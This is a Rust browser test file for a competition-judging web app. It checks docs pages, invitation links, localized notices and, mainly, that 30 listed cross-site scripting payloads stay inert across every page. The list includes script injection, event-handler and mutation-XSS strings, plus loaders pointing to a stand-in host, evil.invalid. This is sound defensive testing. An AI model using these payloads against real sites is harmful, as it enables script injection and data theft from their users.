//! Pages in headless Chromium, driven by the scripts of tests/browser.

use crate::tools::require_tools;
use std::path::Path;
use std::process::Stdio;

use evenhand_client::types;
use serde_json::{Value, json};

use crate::competition::Cup;
use crate::publication::publish;
use crate::stage::{Backend, Call, Client, Stage, Unclaimed, body, new_key};

/// Runs a script of tests/browser; returns what it reports, or `None` without a browser.
async fn open(script: &str, arguments: &[&str]) -> Option<Value> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser");
    let chromium = std::env::var("CHROMIUM").unwrap_or_else(|_| "/usr/bin/chromium".to_owned());
    if !folder.join("node_modules/puppeteer-core").exists() || !Path::new(&chromium).exists() {
        require_tools("Chromium and npm ci in tests/browser");
        return None;
    }
    let mut command = tokio::process::Command::new("node");
    command
        .arg(script)
        .args(arguments)
        .current_dir(&folder)
        .stdin(Stdio::null());
    let run = command.output().await.unwrap();
    let said = String::from_utf8_lossy(&run.stdout);
    assert!(
        run.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&run.stderr)
    );
    Some(serde_json::from_str(&said).unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_integrator_tries_an_operation_in_the_documents() {
    let stage = Stage::start(Backend::Sqlite).await.unwrap();
    let arguments = [stage.url.as_str(), stage.organiser.token()];
    let Some(said) = open("docs.mjs", &arguments).await else {
        return;
    };
    assert_eq!(said["status"], "200", "{said}");
    assert_eq!(said["byKeyboard"], "200", "{said}");
    assert_eq!(said["linked"], true, "{said}");
    assert_eq!(said["wide"], 0, "nothing is cut off");
    assert_eq!(said["violations"], json!([]), "accessibility");
    let transferred = said["transferred"].as_u64().unwrap();
    assert!(transferred < 300_000, "{transferred} bytes");
    eprintln!("/docs: {transferred} bytes");
    assert!(
        said["body"].as_str().unwrap().contains("Olga Organiser"),
        "{said}"
    );
    assert_eq!(
        said["strangers"],
        Value::Array(Vec::new()),
        "no other host is asked"
    );
    assert_eq!(
        said["complaints"],
        Value::Array(Vec::new()),
        "the page's policy lets it work"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_invitation_is_redeemed_on_a_phone() {
    let Unclaimed { stage, code } = Stage::unclaimed(Backend::Sqlite, Default::default())
        .await
        .unwrap();
    let link = format!("{}/#invite={code}", stage.url);
    let Some(said) = open("start.mjs", &[&link]).await else {
        return;
    };
    assert!(said["text"].as_str().unwrap().contains("evh_"), "{said}");
    assert_eq!(said["hash"], "", "the code does not stay in the address");
    assert_eq!(said["wide"], 0, "nothing is cut off");
    assert_eq!(said["complaints"], Value::Array(Vec::new()));
}

/// An organiser with an interest reads in each language why the pages are closed.
#[tokio::test(flavor = "multi_thread")]
async fn an_organiser_with_an_interest_is_told() {
    let stage = Stage::start(Backend::Sqlite).await.unwrap();
    let cup = Cup::open(&stage).await;
    let invitation = json!({ "role": "organiser", "name": "Aunt" });
    let aunt = cup.organiser.bring(&cup.id, invitation, "Aunt").await;
    let reason = body(json!({ "reason": "A member is my niece." }));
    aunt.declare_my_interest(&cup.id, &new_key(), &reason)
        .given()
        .await;
    for (lang, told) in [
        ("en", "You declared an interest on "),
        ("ru", " вы заявили о личной заинтересованности."),
        ("zh", " 声明利害关系。"),
    ] {
        let address = format!("{}/?lang={lang}#token={}", stage.url, aunt.token());
        let Some(said) = open("text.mjs", &[&address]).await else {
            return;
        };
        let text = said["text"].as_str().unwrap();
        assert!(text.contains("Cup") && text.contains(told), "{said}");
        assert_eq!(said["wide"], 0, "nothing is cut off");
    }
}

/// Hostile texts. Each would set `pwned` or send a request to another host if a page did not escape
/// it.
const HOSTILE: [&str; 30] = [
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror=window.pwned=1>",
    "'><svg onload=window.pwned=1>",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>-->",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "<a href='javascript:window.pwned=1' autofocus onfocus=window.pwned=1>x</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "';window.pwned=1//",
    "\"-(window.pwned=1)-\"",
    "<details open ontoggle=window.pwned=1>",
    "<form action=javascript:window.pwned=1><button autofocus>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<b style='animation-name:x' onanimationstart=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "<script src=//evil.invalid/?pwned=1></script>",
    "<style>@import '//evil.invalid/?pwned=1';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/?pwned=1'>",
    "<base href='//evil.invalid/?pwned=1'>",
];

/// A cell of a CSV table, in quotes.
fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Hostile texts in turn.
struct Texts {
    all: std::iter::Cycle<std::slice::Iter<'static, &'static str>>,
    turn: usize,
}

impl Texts {
    fn new() -> Self {
        let all = HOSTILE.iter().cycle();
        Self { all, turn: 0 }
    }

    fn text(&mut self) -> &'static str {
        self.all.next().unwrap()
    }

    /// A text without a semicolon, which separates the parts of a list.
    fn listed(&mut self) -> &'static str {
        let mut without = HOSTILE.iter().filter(|text| !text.contains(';')).cycle();
        self.turn += 1;
        without.nth(self.turn - 1).unwrap()
    }
}

/// A competition in which every text that a client can write is hostile; judged, published,
/// corrected.
struct Hostile {
    cup: Cup,
    judge: Client,
    team: Client,
    published: types::Publication,
}

/// Hostile names of the competition, countries, track, round and criteria. Returns the track.
async fn hostile_settings(cup: &Cup, texts: &mut Texts) -> uuid::Uuid {
    let (organiser, of, round) = (&cup.organiser, &cup.id, &cup.round);
    let all = |text: &str| json!({ "en": text, "ru": text, "zh": text });
    let settings = body(json!({
        "name": texts.text(), "zone": "Asia/Shanghai", "entry_deadline": "2126-12-01T18:00:00",
    }));
    organiser
        .replace_competition(of, Some("*"), &settings)
        .given()
        .await;
    let countries: Vec<Value> = ["CN", "KZ", "RU", "BY"]
        .iter()
        .map(|code| json!({ "code": code, "status": "member", "names": all(texts.text()) }))
        .collect();
    organiser
        .replace_countries(of, &body(json!({ "items": countries })))
        .given()
        .await;
    let track =
        body(json!({ "code": "t<svg onload=window.pwned=1>", "titles": all(texts.text()) }));
    let track = organiser
        .create_track(of, &new_key(), &track)
        .given()
        .await
        .id;
    let renamed =
        body(json!({ "code": "final<img src=x onerror=window.pwned=1>", "panel_size": 2 }));
    organiser
        .replace_round(of, round, Some("*"), &renamed)
        .given()
        .await;
    let criterion = |name: &str, texts: &str| {
        json!({
            "criterion": name, "weight": "1", "min": "1", "max": "10", "step": "0.5", "titles": all(texts),
            "levels": [{ "mark": "10", "texts": all(texts) }],
        })
    };
    let criteria = [
        criterion("<img src=x onerror=window.pwned=1>", texts.text()),
        criterion("pitch", texts.text()),
    ];
    let rubric = body(json!({ "criteria": criteria }));
    organiser
        .replace_rubric(of, round, Some("*"), &rubric)
        .given()
        .await;
    track
}

/// A team with hostile people and a submitted, eligible entry.
async fn hostile_team(cup: &Cup, track: &uuid::Uuid, texts: &mut Texts) -> Client {
    let (organiser, of) = (&cup.organiser, &cup.id);
    let invitation = json!({ "role": "team", "name": texts.text() });
    let team = organiser.bring(of, invitation, texts.text()).await;
    let school = body(json!({ "name": texts.listed(), "city": texts.text(), "country": "CN" }));
    let school = team
        .create_organisation(of, &new_key(), &school)
        .given()
        .await
        .id;
    let member = json!({
        "kind": "member", "name": texts.listed(), "citizenships": ["CN"], "age_band": "14_17", "organisation_id": school,
    });
    let people = body(json!({ "name": texts.text(), "city": texts.text(), "members": [member] }));
    team.replace_my_team(of, Some("*"), &people).given().await;
    let entry = body(json!({
        "title": texts.text(), "abstract": texts.text(), "track_id": track, "topics": [texts.listed(), texts.listed()],
    }));
    let entry = team.create_my_entry(of, &new_key(), &entry).given().await;
    team.submit_my_entry(of, &entry.id, Some("*")).given().await;
    let verdict = body(json!({ "verdict": "eligible", "reason": texts.text() }));
    organiser
        .decide_entry(of, &entry.id, &verdict)
        .given()
        .await;
    team
}

/// Imports each text as title and abstract of an entry and as name of a judge.
async fn hostile_tables(cup: &Cup) {
    let rows = HOSTILE.iter().enumerate().map(|(at, text)| {
        let title = cell(text);
        format!(
            "{},{title},KZ,t<svg onload=window.pwned=1>,{title}\n",
            cell(&format!("E{at}<img src=x onerror=window.pwned=1>"))
        )
    });
    let rows: String = rows.collect();
    cup.import(
        types::ImportTable::Entries,
        &format!("entry,title,countries,track,abstract\n{rows}"),
    )
    .await;
    let rows = HOSTILE.iter().take(8).enumerate().map(|(at, text)| {
        format!(
            "{},{},{},0,20\n",
            cell(&format!("J{at}'><svg onload=window.pwned=1>")),
            cell(text),
            ["RU", "BY"][at % 2]
        )
    });
    let rows: String = rows.collect();
    cup.import(
        types::ImportTable::Judges,
        &format!("judge,name,countries,min_load,max_load\n{rows}"),
    )
    .await;
}

/// Signs the judges in, assigns the panels and submits every sheet with a hostile comment.
async fn hostile_sheets(cup: &Cup, texts: &mut Texts) -> Vec<Client> {
    let (organiser, of, round) = (&cup.organiser, &cup.id, &cup.round);
    let plan = body(json!({
        "method": "calibrated", "same_country": "exclude", "top": 3, "draws": 200, "seed": 1, "robust": true,
    }));
    organiser
        .replace_scoring_plan(of, round, Some("*"), &plan)
        .given()
        .await;
    let mut judges = Vec::new();
    for judge in organiser.list_judges(of, None, None).given().await.items {
        let invitation = json!({ "role": "judge", "judge_id": judge.id });
        judges.push(organiser.bring(of, invitation, texts.text()).await);
    }
    cup.assign().await;
    for (j, judge) in judges.iter().enumerate() {
        for (a, assignment) in cup.own(judge).await.iter().enumerate() {
            let mark = |criterion, more: usize| json!({ "criterion": criterion, "score": (1 + (a * 3 + j + more) % 9).to_string() });
            let sheet = body(json!({
                "marks": [mark("<img src=x onerror=window.pwned=1>", 0), mark("pitch", 2)], "comment": texts.text(),
            }));
            let submitted = judge.submit_my_sheet(of, &assignment.id, Some("*"), &sheet);
            submitted.given().await;
        }
    }
    judges
}

/// Amends the plan, publishes the results and corrects them, with hostile reasons.
async fn hostile_results(cup: &Cup, texts: &mut Texts) -> types::Publication {
    let (organiser, of, round) = (&cup.organiser, &cup.id, &cup.round);
    let amended = body(json!({
        "scoring_plan": { "method": "mean", "same_country": "exclude", "top": 3, "draws": 0, "seed": 1 }, "reason": texts.text(),
    }));
    organiser
        .amend_scoring_plan(of, round, &new_key(), &amended)
        .given()
        .await;
    organiser.rank_round(of, round).given().await;
    let deputy = json!({ "role": "organiser", "name": texts.text() });
    let deputy = organiser.bring(of, deputy, texts.text()).await;
    publish(cup, &deputy, 1).await;
    let reason = body(json!({ "reason": texts.text() }));
    let asked = organiser
        .request_reopening(of, round, &new_key(), &reason)
        .given()
        .await;
    deputy.approve_reopening(of, round, &asked.id).given().await;
    cup.close().await;
    organiser.rank_round(of, round).given().await;
    publish(cup, &deputy, 2).await
}

async fn hostile(stage: &Stage) -> Hostile {
    let cup = Cup::open(stage).await;
    let mut texts = Texts::new();
    let track = hostile_settings(&cup, &mut texts).await;
    let team = hostile_team(&cup, &track, &mut texts).await;
    hostile_tables(&cup).await;
    let mut judges = hostile_sheets(&cup, &mut texts).await;
    cup.close().await;
    let published = hostile_results(&cup, &mut texts).await;
    Hostile {
        cup,
        judge: judges.remove(0),
        team,
        published,
    }
}

/// A page to open.
struct Page {
    /// What hostile.mjs needs.
    request: Value,
    /// Whether hostile texts must be visible.
    shows: bool,
}

/// Every page for people, and pages whose address has a hostile text.
fn pages(stage: &Stage, hostile: &Hostile, integrator: &Client) -> Vec<Page> {
    let Hostile {
        cup,
        judge,
        team,
        published,
    } = hostile;
    let (of, round, id) = (&cup.id, &cup.round, &published.id);
    let organiser = cup.organiser.token();
    let mut pages = Vec::new();
    let mut add = |name: &str, url: String, token: Option<&str>, shows: bool| {
        let request = json!({ "name": name, "server": stage.url, "url": url, "token": token });
        pages.push(Page { request, shows });
    };
    for lang in ["en", "ru", "zh"] {
        for (name, token) in [
            ("organiser", organiser),
            ("judge", judge.token()),
            ("team", team.token()),
        ] {
            add(name, format!("/?lang={lang}#token={token}"), None, true);
        }
        add("results", format!("/?lang={lang}&results={of}"), None, true);
        let report = format!("/api/v1/competitions/{of}/results/{id}/report?lang={lang}");
        add("published report", report, None, true);
        let report = format!("/api/v1/competitions/{of}/rounds/{round}/report?lang={lang}");
        add("report", report, Some(organiser), true);
    }
    let encoded = |text: &str| -> String { text.bytes().map(|b| format!("%{b:02X}")).collect() };
    for text in HOSTILE {
        let url = format!("/?results={}", encoded(text));
        add("a link to results", url, None, false);
    }
    for text in HOSTILE.iter().take(4) {
        let text = encoded(text);
        for at in [
            "/#invite=",
            "/#token=",
            "/?lang=",
            "/problems/",
            "/docs/guides/en/",
            "/api/v1/competitions/",
        ] {
            add(at, format!("{at}{text}"), None, false);
        }
    }
    for page in ["/docs/guides", "/problems", "/docs/guides/en/teams"] {
        add(page, page.to_owned(), None, false);
    }
    let documents = json!({
        "name": "documents", "server": stage.url, "token": integrator.token(), "documents": true,
    });
    pages.push(Page {
        request: documents,
        shows: true,
    });
    pages
}

/// N27: no hostile text runs on any page for people, none causes a request to another host, and the
/// content security policy has nothing to block.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_stay_texts() {
    let stage = Stage::start(Backend::Sqlite).await.unwrap();
    let hostile = hostile(&stage).await;
    let cup = &hostile.cup;
    let integrator = json!({ "role": "organiser", "name": "I" });
    let integrator = cup.organiser.bring(&cup.id, integrator, HOSTILE[1]).await;
    let pages = pages(&stage, &hostile, &integrator);
    let list: Vec<&Value> = pages.iter().map(|page| &page.request).collect();
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), json!(list).to_string()).unwrap();
    let Some(found) = open("hostile.mjs", &[file.path().to_str().unwrap()]).await else {
        return;
    };
    let found = found.as_array().unwrap();
    assert_eq!(found.len(), pages.len());
    for (found, Page { request, shows }) in found.iter().zip(&pages) {
        for harm in ["dialogs", "strangers", "violations", "errors", "active"] {
            assert_eq!(found[harm], json!([]), "{harm} of {request}: {found}");
        }
        assert_eq!(found["ran"], 0, "{request}: {found}");
        assert!(
            !shows || found["shown"].as_u64().unwrap() > 0,
            "{request} shows no hostile text: {found}"
        );
    }
}
